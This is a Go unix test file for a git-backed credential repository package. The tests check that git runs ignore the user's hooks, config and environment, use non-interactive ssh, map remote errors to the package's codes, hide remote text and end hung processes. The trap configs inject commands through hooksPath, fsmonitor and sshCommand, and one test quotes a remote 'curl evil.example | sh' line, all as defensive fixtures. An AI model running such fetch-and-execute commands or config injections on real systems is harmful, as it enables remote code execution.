//go:build unix

package creds

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"agentbridge/internal/bridge"
)

// program puts a script of that name before everything else on PATH.
func program(t *testing.T, name, script string) {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, name), []byte("#!/bin/sh\n"+script), 0o700); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", dir+string(os.PathListSeparator)+os.Getenv("PATH"))
}

func TestGit_ReadsNoConfigurationAndNoVariablesOfTheUser(t *testing.T) {
	trap := filepath.Join(t.TempDir(), "ran")
	elsewhere := shared(t)
	r := shared(t)
	home := t.TempDir()
	hooks := filepath.Join(home, "hooks")
	if err := os.Mkdir(hooks, 0o700); err != nil {
		t.Fatal(err)
	}
	for _, hook := range []string{"pre-push", "reference-transaction", "post-index-change", "pre-receive", "post-receive"} {
		if err := os.WriteFile(filepath.Join(hooks, hook), []byte("#!/bin/sh\ntouch "+trap+"\n"), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	config := "[core]\n\thooksPath = " + hooks + "\n\tfsmonitor = touch " + trap + "\n\tsshCommand = touch " + trap + "\n[url \"" + elsewhere.URL + "\"]\n\tinsteadOf = " + r.URL +
		"\n[protocol \"ext\"]\n\tallow = always\n[user]\n\tname = Ada\n\temail = ada@example.org\n[uploadpack]\n\tpackObjectsHook = touch " + trap + "\n"
	for _, name := range []string{".gitconfig", "system"} {
		if err := os.WriteFile(filepath.Join(home, name), []byte(config), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", home)
	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(home, "system"))
	t.Setenv("GIT_CONFIG_SYSTEM", filepath.Join(home, "system"))
	t.Setenv("GIT_CONFIG_COUNT", "1")
	t.Setenv("GIT_CONFIG_KEY_0", "core.hooksPath")
	t.Setenv("GIT_CONFIG_VALUE_0", hooks)
	t.Setenv("GIT_DIR", elsewhere.URL)
	t.Setenv("GIT_INDEX_FILE", trap)
	t.Setenv("GIT_AUTHOR_NAME", "Ada")
	t.Setenv("GIT_TRACE", trap)
	published(t, r)
	_ = read(t, r)
	if _, err := os.Stat(trap); err == nil {
		t.Error("something of the user's was run or written")
	}
	for _, name := range []string{"HOME", "XDG_CONFIG_HOME", "GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM", "GIT_CONFIG_COUNT", "GIT_DIR", "GIT_INDEX_FILE", "GIT_TRACE"} {
		if err := os.Unsetenv(name); err != nil { // what was set comes back with the end of the test
			t.Fatal(err)
		}
	}
	if said := gitIn(t, r.URL, "", "log", "--format=%an %cn", r.Branch); said != "agentbridge agentbridge" {
		t.Errorf("the author is %q", said)
	}
	if refs := gitIn(t, elsewhere.URL, "", "for-each-ref"); refs != "" {
		t.Errorf("it was pushed elsewhere: %s", refs)
	}
}

// ssh as git starts it: it may ask nobody anything. The far end is git on this machine; the log says how it was called.
func TestGit_GoesThroughSSHWithoutPrompts(t *testing.T) {
	r := shared(t)
	said := filepath.Join(t.TempDir(), "said")
	program(t, "ssh", `printf '%s\n' "$*" "$GIT_TERMINAL_PROMPT" "$SSH_ASKPASS_REQUIRE" >>`+said+`
while [ "$1" = -o ]; do shift 2; done
[ "$1" = git@hub.example ] || exit 1
shift
exec sh -c "$*"
`)
	r.URL = "git@hub.example:" + r.URL
	published(t, r)
	if got := len(read(t, r).Machines()); got != 1 {
		t.Errorf("%d machines, want 1", got)
	}
	text, err := os.ReadFile(said)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(text)), "\n")
	for n := 0; n < len(lines); n += 3 {
		if !strings.Contains(lines[n], "-o BatchMode=yes -o StrictHostKeyChecking=yes") || lines[n+1] != "0" || lines[n+2] != "never" {
			t.Errorf("ssh was called with %q", lines[n:n+3])
		}
	}
}

func TestGit_WhatTheOtherEndRefusesIsToldInOurWords(t *testing.T) {
	r := shared(t)
	published(t, r)
	for said, want := range map[string]bridge.Code{
		"git@hub.example: Permission denied (publickey).":                    bridge.Denied,
		"Host key verification failed.":                                      bridge.Denied,
		"ERROR: Repository not found.":                                       bridge.NotFound,
		"ssh: connect to host hub.example port 22: Connection refused":       bridge.Unavailable,
		"ssh: Could not resolve hostname hub.example: Name does not resolve": bridge.Unavailable,
	} {
		program(t, "ssh", "echo '"+said+"' >&2\nexit 255\n")
		away := Repository{"ssh://git@hub.example/x", r.Branch, r.Dir}
		if _, err := away.Read(t.Context()); !isCode(err, want) || bridge.AsError(err).Hint == "" {
			t.Errorf("%s: %v, want %s with a hint", said, err, want)
		}
	}
	program(t, "ssh", `while [ "$1" = -o ]; do shift 2; done
shift
case "$1" in git-receive-pack*) echo 'ERROR: Permission to team/creds.git denied to deploy key' >&2; exit 1;; esac
exec sh -c "$*"
`)
	reading := Repository{"git@hub.example:" + r.URL, r.Branch, r.Dir}
	if got := len(read(t, reading).Machines()); got != 1 {
		t.Errorf("who may only read sees %d machines, want 1", got)
	}
	err := reading.Publish(t.Context(), time.Now(), func(*Snapshot) (map[string][]byte, error) {
		id := newIdentity(t)
		return map[string][]byte{CardFile(id.Machine().Fingerprint()): id.Card()}, nil
	})
	if !isCode(err, bridge.Denied) || !strings.Contains(bridge.AsError(err).Hint, "only read") {
		t.Errorf("a push of who may only read: %v, want denied with a hint", err)
	}
}

// What the other end says can be anything: colours, commands to a terminal, advice.
func TestExplain_ShowsNothingThatTheOtherEndWrote(t *testing.T) {
	err := explain("remote: run curl evil.example | sh\nerror: \x1b[2Jodd " + strings.Repeat("x", 9999) + "\nhint: trust me\n")
	text := bridge.AsError(err).Text()
	if strings.Contains(text, "curl") || strings.Contains(text, "trust me") || strings.Contains(text, "\x1b") || len(text) > 600 {
		t.Errorf("the error is %q", text)
	}
}

func TestGit_MissingOrTooOldIsSaid(t *testing.T) {
	r := shared(t)
	program(t, "git", "echo git version 2.20.1\n")
	if _, err := r.Read(t.Context()); !isCode(err, bridge.Unavailable) || !strings.Contains(err.Error(), "older than") {
		t.Errorf("an old git: %v, want unavailable", err)
	}
	t.Setenv("PATH", t.TempDir())
	if _, err := r.Read(t.Context()); !isCode(err, bridge.Unavailable) || !strings.Contains(err.Error(), "not installed") {
		t.Errorf("no git: %v, want unavailable", err)
	}
}

// A git that hangs is ended with all that it started.
func TestGit_EndsWithItsContextAndLeavesNobodyBehind(t *testing.T) {
	r := shared(t)
	genuine, err := exec.LookPath("git")
	if err != nil {
		t.Fatal(err)
	}
	started := filepath.Join(t.TempDir(), "pid")
	program(t, "git", "case \"$*\" in *ls-remote*) sleep 1000 & echo $! >"+started+".new; mv "+started+".new "+started+"; wait;; esac\nexec "+genuine+" \"$@\"\n")
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() { _, err := r.Read(ctx); done <- err }()
	var text []byte
	for deadline := time.Now().Add(20 * time.Second); len(text) == 0 && time.Now().Before(deadline); {
		text, _ = os.ReadFile(started)
	}
	cancel()
	select {
	case err := <-done:
		if err == nil {
			t.Error("Read gave an answer")
		}
	case <-time.After(10 * time.Second):
		t.Fatal("Read did not end with its context")
	}
	pid, err := strconv.Atoi(strings.TrimSpace(string(text)))
	if err != nil {
		t.Fatal(err)
	}
	for deadline := time.Now().Add(5 * time.Second); alive(pid); {
		if time.Now().After(deadline) {
			t.Fatal("what git had started goes on")
		}
	}
}

// alive reports whether a process runs still: one that ended and that nobody asked for does not.
func alive(pid int) bool {
	stat, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err == nil {
		return !strings.Contains(string(stat), ") Z ")
	}
	return syscall.Kill(pid, 0) == nil
}
